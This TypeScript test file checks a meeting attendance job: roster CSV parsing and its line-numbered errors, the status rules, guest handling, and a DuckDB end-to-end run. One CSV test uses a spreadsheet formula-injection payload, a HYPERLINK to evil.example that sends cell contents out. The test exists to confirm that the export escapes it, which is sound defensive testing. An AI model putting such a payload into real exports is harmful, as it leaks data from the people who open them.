// Attendance: roster parsing (bad rows by line), the status rules, guests, and the job end to end
// on an in-memory DuckDB over hand-built events.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createFileArchive } from '../../core/adapters/local/file-archive.ts';
import { silentLogger } from '../../core/log.ts';
import { createDuckDbEngine } from '../../core/adapters/local/duckdb-engine.ts';
import { DAY, row } from '../../test/jobs/event-rows.ts';
import { computeAttendance, toCsv, type PresenceRow } from './attendance.ts';
import { parseRoster, RosterError } from '../../core/roster.ts';
import { attendanceKey } from '../../core/warehouse/report-contract.ts';
import { runAttendance } from './run-attendance.ts';

const thresholds = { lateAfterMins: 5, leftEarlyBeforeMins: 5, minPresencePercent: 50 };
const ROSTER =
  'Email,First Name,Last Name,ID,Department\nann@x.org,Ann,A,1,Ops\nBOB@x.org,Bob,B,2,Ops\ncy@x.org,"Cy, Jr.",C,3,"R&D"\ndi@x.org,Di,D,4,Ops\nel@x.org,El,E,5,Ops\n';

function presence(
  email: string | null,
  join: string,
  leave: string,
  mins: number,
  key = email ?? 'guest',
): PresenceRow {
  return {
    meeting_id: '1',
    meeting_uuid: 'm1',
    participant_key: key,
    participant_name: key,
    participant_email: email,
    meeting_join_time: `${DAY}T${join}:00.000Z`,
    meeting_leave_time: `${DAY}T${leave}:00.000Z`,
    meeting_duration_mins: mins,
  };
}

describe('roster', () => {
  it('reads a header in any order of case, quoted fields, CRLF, a BOM', () => {
    const members = parseRoster(`\uFEFF${ROSTER.replace(/\n/g, '\r\n')}`);
    expect(members.map((m) => [m.email, m.firstName, m.department, m.line])).toEqual([
      ['ann@x.org', 'Ann', 'Ops', 2],
      ['BOB@x.org', 'Bob', 'Ops', 3],
      ['cy@x.org', 'Cy, Jr.', 'R&D', 4],
      ['di@x.org', 'Di', 'Ops', 5],
      ['el@x.org', 'El', 'Ops', 6],
    ]);
  });

  it('reads rows without a header in the documented order', () => {
    expect(parseRoster('ann@x.org,Ann,A,1,Ops\n')[0]).toMatchObject({
      email: 'ann@x.org',
      id: '1',
      department: 'Ops',
    });
  });

  it('reports every bad row by line number', () => {
    const bad =
      'email,first name,last name,id,department\nann@x.org,Ann,A,1,Ops\nnot-an-email,X,X,2,Ops\nANN@x.org,Ann,A,3,Ops\nshort@x.org,S\n';
    const err = (() => {
      try {
        parseRoster(bad);
      } catch (e) {
        return e;
      }
      return undefined;
    })();
    expect(err).toBeInstanceOf(RosterError);
    expect((err as RosterError).problems).toEqual([
      'line 3: invalid email "not-an-email"',
      'line 4: ANN@x.org already on line 2',
      'line 5: 2 columns, expected 5',
    ]);
    expect(() => parseRoster('')).toThrow(/no rows/);
  });
});

describe('attendance status', () => {
  it('Present, Late, Left Early, Absent (missing or under the minimum presence), email case-insensitive, guests apart', () => {
    const rows = [
      presence('ann@x.org', '09:00', '10:00', 60),
      presence('bob@X.org', '09:00', '10:00', 60),
      presence('cy@x.org', '09:06', '10:00', 54),
      presence('di@x.org', '09:00', '09:54', 54),
      presence('el@x.org', '09:00', '10:00', 20),
      presence(null, '09:10', '09:20', 10, 'Phone guest'),
    ];
    const roster = parseRoster(ROSTER);
    const result = computeAttendance(
      DAY,
      [...rows, { ...rows[0]!, participant_key: 'ann-second-device' }],
      roster,
      thresholds,
    );
    expect(result.map((r) => [r.attendee_type, r.email || r.participant_name, r.status])).toEqual([
      ['member', 'ann@x.org', 'Present'],
      ['member', 'BOB@x.org', 'Present'],
      ['member', 'cy@x.org', 'Late'],
      ['member', 'di@x.org', 'Left Early'],
      ['member', 'el@x.org', 'Absent'],
      ['guest', 'Phone guest', 'Guest'],
    ]);
    const absent = computeAttendance(
      DAY,
      rows.slice(0, 1),
      parseRoster('zed@x.org,Zed,Z,9,Ops\n'),
      thresholds,
    );
    expect(absent.map((r) => [r.email || r.participant_name, r.status, r.first_join_time])).toEqual([
      ['zed@x.org', 'Absent', ''],
      ['ann@x.org', 'Guest', '2026-02-03T09:00:00Z'],
    ]);
  });
});

describe('attendance CSV', () => {
  it("gives formula-like names and roster fields a leading ', keeps numbers and times, starts with a BOM", () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1)';
    const result = computeAttendance(
      DAY,
      [presence('ann@x.org', '09:00', '10:00', 60, 'ann'), presence(null, '09:10', '09:20', 10, hostile)],
      parseRoster('ann@x.org,@Ann,-A,+1,"=1+1"\n'),
      thresholds,
    );
    const csv = toCsv(result);
    expect(csv.split('\n').slice(1)).toEqual([
      `2026-02-03,1,m1,member,Present,ann@x.org,'@Ann,'-A,'+1,'=1+1,ann,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z,60.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z`,
      `2026-02-03,1,m1,guest,Guest,,,,,,"'=HYPERLINK(""http://evil.example/?x=""&A1)",2026-02-03T09:10:00Z,2026-02-03T09:20:00Z,10.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z`,
      '',
    ]);
    expect(csv.startsWith('\uFEFFattendance_date,')).toBe(true);
  });
});

describe('attendance job', () => {
  it('writes the CSV for the day from the warehouse', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'attendance-'));
    const archive = createFileArchive(dir);
    const engine = await createDuckDbEngine({ path: ':memory:', archive });
    try {
      await engine.replaceWebhookEvents(DAY, [
        row({ at: '09:00', action: 'JOIN', who: 'u1', email: 'Ann@X.org', name: 'Ann' }),
        row({ at: '10:00', action: 'LEAVE', who: 'u1', email: 'Ann@X.org', name: 'Ann' }),
        row({ at: '09:30', action: 'JOIN', name: 'Visitor' }),
        row({ at: '09:50', action: 'LEAVE', name: 'Visitor' }),
      ]);
      const summary = await runAttendance(
        { engine, archive, log: silentLogger(), timeZone: 'UTC', thresholds },
        { date: DAY, rosterCsv: 'ann@x.org,Ann,A,1,Ops\nbob@x.org,Bob,B,2,Ops\n' },
      );
      expect(summary).toMatchObject({ roster: 2, meetings: 1, present: 1, absent: 1, guests: 1 });
      await runAttendance(
        { engine, archive, log: silentLogger(), timeZone: 'UTC', thresholds },
        { date: DAY, rosterCsv: 'ann@x.org,Ann,A,1,Ops\nbob@x.org,Bob,B,2,Ops\n' },
      );
      const table = await engine.query(
        'SELECT email, status, is_guest, present_mins FROM zoom_tracker.attendance ORDER BY is_guest, email',
        {},
      );
      expect(table.rows).toEqual([
        { email: 'ann@x.org', status: 'Present', is_guest: false, present_mins: 60 },
        { email: 'bob@x.org', status: 'Absent', is_guest: false, present_mins: 0 },
        { email: null, status: 'Guest', is_guest: true, present_mins: 20 },
      ]);
      expect((await archive.get(attendanceKey(DAY)))?.toString()).toBe(
        '\uFEFF' +
          [
            'attendance_date,meeting_id,meeting_uuid,attendee_type,status,email,first_name,last_name,roster_id,department,participant_name,first_join_time,last_leave_time,present_mins,meeting_start_time,meeting_end_time',
            '2026-02-03,86431910364,mtg-uuid-1==,member,Present,ann@x.org,Ann,A,1,Ops,Ann,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z,60.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
            '2026-02-03,86431910364,mtg-uuid-1==,member,Absent,bob@x.org,Bob,B,2,Ops,,,,0.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
            '2026-02-03,86431910364,mtg-uuid-1==,guest,Guest,,,,,,Visitor,2026-02-03T09:30:00Z,2026-02-03T09:50:00Z,20.00,2026-02-03T09:00:00Z,2026-02-03T10:00:00Z',
            '',
          ].join('\n'),
      );
    } finally {
      await engine.close();
      await rm(dir, { recursive: true, force: true });
    }
  });
});
